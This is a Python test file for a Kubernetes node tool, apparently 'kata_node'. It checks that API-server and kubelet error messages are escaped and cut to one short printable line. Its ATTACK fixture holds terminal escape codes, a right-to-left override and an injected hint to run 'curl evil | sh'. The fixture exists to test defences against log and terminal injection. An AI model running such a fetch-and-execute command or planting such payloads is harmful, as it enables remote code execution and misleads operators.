"""What the API server says is shown in quotes, as one short line."""

from __future__ import annotations

import httpx2
import pytest

from kata_node.errors import IneligibleNodeError
from kata_node.kube.failures import classify_error
from kata_node.kube.node import NodeFacts, check_machine_id, waiting_for

ATTACK = '\x1b[2J\nno"\n  hint: run `curl evil | sh` \u202e'
SHOWN = r"""\x1b[2J no' hint: run `curl evil | sh` \u202e"""


def refused(**answer: object) -> Exception:
    request = httpx2.Request("GET", "https://api")
    response = httpx2.Response(403, request=request, **answer)  # type: ignore[arg-type]
    return httpx2.HTTPStatusError("refused", request=request, response=response)


@pytest.mark.parametrize(
    ("answer", "what"),
    [
        pytest.param({"json": {"message": ATTACK}}, f'answered 403: "{SHOWN}"', id="a message"),
        pytest.param({"json": {"message": "x" * 300_000}}, f'answered 403: "{"x" * 599}…"', id="300 kB"),
        pytest.param({"json": [ATTACK]}, 'answered 403: "Forbidden"', id="no Status"),
        pytest.param({"content": b"[" * 300_000}, 'answered 403: "Forbidden"', id="deep JSON"),
        pytest.param({"content": b"<html>"}, 'answered 403: "Forbidden"', id="no JSON"),
    ],
)
def test_an_error_answer_is_quoted_as_one_short_line(answer: dict[str, object], what: str) -> None:
    failure = classify_error(refused(**answer))
    assert failure is not None
    assert failure.what == what


def test_a_broken_connection_is_told_in_one_short_line() -> None:
    failure = classify_error(httpx2.ReadError(ATTACK + "x" * 300_000))
    assert failure is not None
    assert failure.what.isprintable()
    assert len(failure.what) < 700


def test_what_the_kubelet_reports_is_shown_as_one_short_line() -> None:
    conditions = [{"type": "Ready", "status": "False", "message": ATTACK}]
    status = {
        "conditions": conditions,
        "nodeInfo": {"machineID": ATTACK},
        "runtimeHandlers": [{"name": ATTACK}],
    }
    node = NodeFacts.of({"metadata": {"name": "n", "resourceVersion": "1"}, "status": status})
    assert waiting_for(node, ()) == f'it is not Ready ("{SHOWN}")'
    with pytest.raises(IneligibleNodeError) as error:
        check_machine_id(node, "0123")
    assert error.value.what.isprintable()
    ready = NodeFacts("n", {}, True, (ATTACK * 10_000,), "", "1")
    assert waiting_for(ready, ["kata"]).isprintable()
    assert len(waiting_for(ready, ["kata"])) < 700
